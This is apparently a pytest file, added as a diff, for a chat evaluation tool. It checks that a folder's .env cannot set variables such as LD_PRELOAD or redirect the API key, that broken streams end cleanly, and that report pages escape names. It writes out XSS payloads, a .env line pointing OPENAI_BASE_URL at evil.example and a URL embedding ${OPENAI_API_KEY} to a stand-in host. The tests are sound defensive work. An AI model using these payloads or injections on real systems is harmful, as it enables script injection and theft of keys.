@@ -1,0 +1,138 @@
+"""What surrounds the program (a folder's .env, closed and full streams, names in a report) opens and breaks nothing."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from chat.evaluation.figures import Scores, figures
+from chat.evaluation.record import Grade
+from chat.evaluation.report.html import Told, page
+from chat.evaluation.rubric import Metric, Rubric
+from chat.faults import ChatFault
+from chat.settings import DOTENV, read_settings
+from tests.chat.evaluation.made import exchange, played
+
+ROOT = Path(__file__).parents[2]
+CLOSED_IN, CLOSED_OUT = "exec <&-; ", "exec >&-; "
+
+# -- .env
+
+
+@pytest.fixture
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    for name in [name for name in os.environ if name.startswith(("DUET_", "OPENAI_"))]:
+        monkeypatch.delenv(name)
+    monkeypatch.setattr(os, "environ", dict(os.environ))
+    return tmp_path
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["PYTHONPATH", "LD_PRELOAD", "PATH", "HOME", "PYTHONSTARTUP", "JAVA_TOOL_OPTIONS", "http_proxy", "HTTPS_PROXY",
+     "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "LANGSMITH_TRACING", "GRADIO_ALLOWED_PATHS", "GRADIO_TEMP_DIR", "TMPDIR",
+     "HF_HUB_ENABLE_HF_TRANSFER", "TRUST_REMOTE_CODE", "BASH_ENV", "LD_LIBRARY_PATH", "PYTHONHASHSEED", "JAVA_HOME"],
+)  # fmt: skip
+def test_a_folder_sets_nothing_but_what_duet_reads(folder: Path, name: str) -> None:
+    before = os.environ.get(name)
+    (folder / ".env").write_text(f"{name}=/evil\nDUET_USER=eve\n")
+    assert read_settings().user == "eve"
+    assert os.environ.get(name) == before and name not in DOTENV
+
+
+def test_without_the_list_it_would(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("chat.settings.DOTENV", {*DOTENV, "LD_PRELOAD"})
+    (folder / ".env").write_text("LD_PRELOAD=/evil\n")
+    read_settings()
+    assert os.environ["LD_PRELOAD"] == "/evil"
+
+
+def test_a_folder_does_not_choose_where_the_persons_key_goes(folder: Path) -> None:
+    os.environ["OPENAI_API_KEY"] = "mine"
+    (folder / ".env").write_text("OPENAI_BASE_URL=https://evil.example/v1\n")
+    with pytest.raises(ChatFault, match="put both in one place"):
+        read_settings()
+    (folder / ".env").write_text("DUET_FAST_MODEL=openai:x@https://evil.example/${OPENAI_API_KEY}\n")
+    assert "mine" not in read_settings().fast_model
+
+
+# -- streams
+
+
+def run(command: str, home: Path) -> subprocess.CompletedProcess[str]:
+    environment = {**os.environ, "DUET_HOME": str(home), "PYTHONPATH": os.environ.get("PYTHONPATH", "")}
+    line = f"{command.replace('main.py', f'{sys.executable} {ROOT}/main.py')}"
+    return subprocess.run(["sh", "-c", line], cwd=home, env=environment, capture_output=True, text=True, timeout=60)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [CLOSED_IN + "main.py ask -", "main.py ask - < /dev/null", CLOSED_OUT + CLOSED_IN + "main.py models list",
+     "main.py models list > /dev/full", "main.py --help > /dev/full",
+     "printf '\\377\\376' | main.py ask - --session nope",
+     CLOSED_IN + "main.py talk --session nope", "main.py models list | true"],
+)  # fmt: skip
+def test_broken_streams_end_in_a_sentence(command: str, tmp_path: Path) -> None:
+    ended = run(command, tmp_path)
+    assert "Traceback" not in ended.stderr and "Exception ignored" not in ended.stderr, ended.stderr
+    assert ended.stderr.count("\n") <= 1
+
+
+# -- names in a report
+
+PAYLOADS = (
+    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "x onmouseover=alert(1) y", "' onfocus='alert(1)",
+    "</style><svg onload=alert(1)>", "</script><b>", "javascript:alert(1)", "a b=c", "x>y", "\u2028<i>",
+)  # fmt: skip
+
+
+class Elements(HTMLParser):
+    """What a browser makes of a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.scripts = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.scripts += tag == "script"
+        self.attributes |= {name for name, _ in attrs}
+        assert not any(value and value.startswith("javascript:") for name, value in attrs if name in ("href", "src"))
+
+
+def read(name: str) -> Elements:
+    metric = Metric(name, name, name, {0: name, 2: name}, "program", decides=name)
+    rubric = Rubric(name, name, (metric,))
+    one = played(exchange(1, name), script=name, system=name)
+    key: Any = (str(one.key), name, "program")
+    found = Scores(rubric, {str(one.key): one}, {key: Grade(name, 2, "program", name)}, {str(one.key): [True]})
+    told = Told(name, found, figures(found), {"seeds": [0], "judge": name}, {name: name}, gradable=True)
+    elements = Elements()
+    elements.feed(page(told))
+    return elements
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_names_are_never_markup(name: str) -> None:
+    plain, found = read("plain"), read(name)
+    assert found.tags == plain.tags and found.scripts == plain.scripts
+    assert {a for a in found.attributes - plain.attributes if not a.startswith("data-m_")} == set()
+
+
+@pytest.mark.parametrize("name", PAYLOADS[1:3])
+def test_without_escaping_they_would_be(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    from chat.evaluation.report import html
+
+    monkeypatch.setattr(html, "escape", str)
+    monkeypatch.setattr(html, "_slug", str)
+    plain, found = read("plain"), read(name)
+    assert found.tags != plain.tags or any(a.startswith("on") for a in found.attributes)
